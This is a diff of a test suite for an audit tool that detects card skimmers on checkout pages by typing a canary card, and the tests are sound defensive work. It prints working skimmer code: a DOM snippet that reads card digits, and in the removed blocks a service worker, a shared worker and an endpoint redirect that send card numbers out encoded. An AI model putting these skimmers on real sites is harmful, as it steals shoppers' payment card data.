@@ -1,52 +1,17 @@
 import { beforeAll, describe, expect, it } from 'vitest';
-import { auditPage, type AuditRun } from '../../src/audit/audit.js';
+import type { AuditRun } from '../../src/audit/audit.js';
 import { freshCanaryCard } from '../../src/audit/canary/card.js';
-import { compare } from '../../src/audit/inventory/compare.js';
-import type { Browser } from '../../src/audit/browser/driver.js';
-import type { Inventory } from '../../src/audit/inventory/schema.js';
-import { updatedInventory } from '../../src/audit/inventory/update.js';
-import { cleanShop, STRICT_CSP, TOKENIZER, type ShopScript } from './shop.js';
+import { TOKENIZER } from './shop.js';
 import { received, shopAsShopper } from './shopper.js';
-import { browserAndSite, type Site } from './site.js';
+import { audit, browser, leaks, site, skimmedShop, useSkimmedShop } from './skimmed-shop.js';
 
-let browser: Browser;
-let site: Site;
-
-browserAndSite((started, shop) => ([browser, site] = [started, shop]));
+useSkimmedShop();
 
 /** The digits the shopper typed, as a skimmer reads them. */
 const DIGITS = `const digits = () => document.querySelector('card-tokenizer input[autocomplete="cc-number"]').value.replace(/\\D/g, '');`;
 
 /** A skimmer's script, in a block of its own: several share the page. */
 const skimmer = (body: string) => `{\n${DIGITS}\n${body}\n}`;
-
-/** The clean shop with `skimmers`, its payment leading to `/pay`, whose page runs `/thanks.js`. */
-function skimmedShop(skimmers: ShopScript[], thanks = '') {
-  cleanShop(site, skimmers);
-  // A shop that runs workers names them: a worker's URL is a Trusted Types sink.
-  site.headers['Content-Security-Policy'] =
-    `${STRICT_CSP.replace('trusted-types lit-html', 'trusted-types lit-html offline')}; worker-src 'self'`;
-  site.files.set(
-    '/pay',
-    '<!doctype html><title>Thank you</title><script src="/thanks.js"></script>',
-  );
-  site.files.set('/thanks.js', thanks);
-}
-
-/** Audits the checkout with the canary. */
-const audit = (mobile = false) =>
-  auditPage(browser, {
-    url: `${site.origin}/checkout`,
-    canary: true,
-    integrityFile: 'dist/integrity.json',
-    ...(mobile && { profile: { as: 'mobile' as const } }),
-  });
-
-const leaks = (run: AuditRun) =>
-  run.canary!.leaks.map(
-    ({ where, message }) =>
-      `${where}: ${message.replace("the canary's card left the element: ", '')}`,
-  );
 
 /** Skimmers written to get past a canary that types fast, never moves a pointer, and leaves at once. */
 const SKIMMERS: [name: string, path: string, body: string, proof: RegExp, caught: RegExp][] = [
@@ -196,107 +161,5 @@ describe('card-tokenizer-audit --canary, skimmers written against a canary', () 
   it('still answers the element’s request alone, and leaves from the page the payment led to', () => {
     expect(desktop.canary!.tokenizationRequest).toBe(`${TOKENIZER}/tokenize`);
     expect(desktop.canary!.leftFrom).toBe(`${site.origin}/pay`);
-  });
-});
-
-describe('card-tokenizer-audit --canary, a service worker of an approved script', () => {
-  const SERVICE_WORKER = `self.addEventListener('install', () => self.skipWaiting());
-self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
-self.addEventListener('fetch', (event) => {
-  if (event.request.method !== 'POST') return;
-  event.respondWith(event.request.clone().text().then((body) => {
-    if (body.includes('cardNumber=')) fetch('/sw-sync', { method: 'POST', body: btoa(body) }).catch(() => {});
-    return fetch(event.request);
-  }));
-});`;
-
-  it('records the worker, and catches it reading the element’s own post', async () => {
-    const register = `const policy = trustedTypes.createPolicy('offline', { createScriptURL: (url) => url });
-navigator.serviceWorker.register(policy.createScriptURL('/sw.js'));`;
-    skimmedShop([{ path: '/offline.js', body: register }]);
-    site.files.set('/sw.js', SERVICE_WORKER);
-    const card = freshCanaryCard();
-    site.requests.splice(0);
-    await shopAsShopper(browser, site, card, {
-      ready: (page) => page.waitForFunction(() => navigator.serviceWorker.controller),
-    });
-    expect(received(site, card)).toContain('/sw-sync: base64 of card number, plain');
-
-    const run = await audit();
-    expect(run.evidence.workers).toEqual([
-      expect.objectContaining({
-        type: 'service',
-        url: '/sw.js',
-        scope: '/',
-        registeredBy: '/offline.js',
-      }),
-    ]);
-    expect(leaks(run)).toContainEqual(
-      expect.stringMatching(
-        /^request POST .*\/sw-sync from a service worker: base64 of card number, plain$/,
-      ),
-    );
-    expect(run.canary!.tokenizationRequest).toBe(`${TOKENIZER}/tokenize`);
-  });
-});
-
-describe('card-tokenizer-audit --canary, shared and dedicated workers', () => {
-  it('records them with the script that started them, and watches a shared worker’s requests', async () => {
-    const start = `const policy = trustedTypes.createPolicy('offline', { createScriptURL: (url) => url });
-const shared = new SharedWorker(policy.createScriptURL('/shared.js'));
-new Worker(policy.createScriptURL('/dedicated.js'));
-document.addEventListener('submit', () => {
-  const number = document.querySelector('card-tokenizer input[autocomplete="cc-number"]').value.replace(/\\D/g, '');
-  shared.port.postMessage(btoa(number));
-}, { capture: true, once: true });`;
-    skimmedShop([{ path: '/sync.js', body: start }]);
-    // The worker decodes what the page hands it, and sends the digits as a number of its own.
-    site.files.set(
-      '/shared.js',
-      `onconnect = ({ ports: [port] }) => { port.onmessage = ({ data }) => fetch('/shared-sync?v=' + BigInt(atob(data)).toString(16)); };`,
-    );
-    site.files.set('/dedicated.js', `postMessage('ready');`);
-    const card = freshCanaryCard();
-    site.requests.splice(0);
-    await shopAsShopper(browser, site, card);
-    expect(received(site, card)).toContain('/shared-sync: card number, hex');
-
-    const run = await audit();
-    expect(run.evidence.workers).toEqual([
-      expect.objectContaining({
-        type: 'dedicated',
-        url: '/dedicated.js',
-        registeredBy: '/sync.js',
-      }),
-      expect.objectContaining({ type: 'shared', url: '/shared.js', registeredBy: '/sync.js' }),
-    ]);
-    expect(leaks(run)).toContainEqual(
-      expect.stringMatching(
-        /^request GET .*\/shared-sync\?v=[0-9a-f]+ from the shared worker .*\/shared\.js: card number, hex$/,
-      ),
-    );
-  });
-});
-
-describe('card-tokenizer-audit, the tokenization origin approved in the inventory', () => {
-  it('fails when a script points the element at a collector that forwards to the service', async () => {
-    const collector = `document.querySelector('card-tokenizer').setAttribute('card-registration-url', location.origin + '/collector/tokenize');`;
-    skimmedShop([{ path: '/checkout-ui.js', body: collector }]);
-    site.files.set('/collector/tokenize', 'data=forwarded-to-the-service');
-    const card = freshCanaryCard();
-    site.requests.splice(0);
-    await shopAsShopper(browser, site, card);
-    expect(received(site, card)).toContain('/collector/tokenize: card number, plain');
-
-    const run = await audit();
-    // The collector's post is the element's: no leak, but an origin the inventory never approved.
-    expect(run.canary!.tokenizationRequest).toBe(`${site.origin}/collector/tokenize`);
-    const inventory: Inventory = {
-      ...updatedInventory(run.evidence, undefined, ''),
-      tokenizationOrigins: [{ origin: TOKENIZER, approvedBy: 'Security lead' }],
-    };
-    expect(compare(run.evidence, inventory)).toContainEqual(
-      expect.objectContaining({ kind: 'tokenization-origin-added', where: site.origin }),
-    );
   });
 });
